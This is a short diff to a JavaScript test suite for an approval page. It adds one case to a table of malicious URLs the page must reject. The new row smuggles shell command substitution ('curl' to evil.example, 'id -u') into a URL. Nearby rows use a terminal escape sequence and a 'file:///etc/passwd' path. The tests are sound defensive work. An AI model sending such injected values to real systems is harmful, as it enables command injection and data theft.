@@ -119,6 +119,7 @@ describe("the approval page", () => {
     ["http://127.0.0.1@evil.example/device", /another server, http:\/\/evil\.example\./],
     ["http://127.0.0.1:1/device", /another server, http:\/\/127\.0\.0\.1:1\./],
     ["http://127.0.0.1.evil.example/\x1b]0;x\x07", /another server, http:\/\/127\.0\.0\.1\.evil\.example\./],
+    ["https://evil.example;{curl,evil.example};$({id,-u})/device", /sent no valid approval page/],
     ["file:///etc/passwd", /sent no valid approval page/],
     ["/device", /sent no valid approval page/],
     [["https://evil.example"], /sent no valid approval page/],
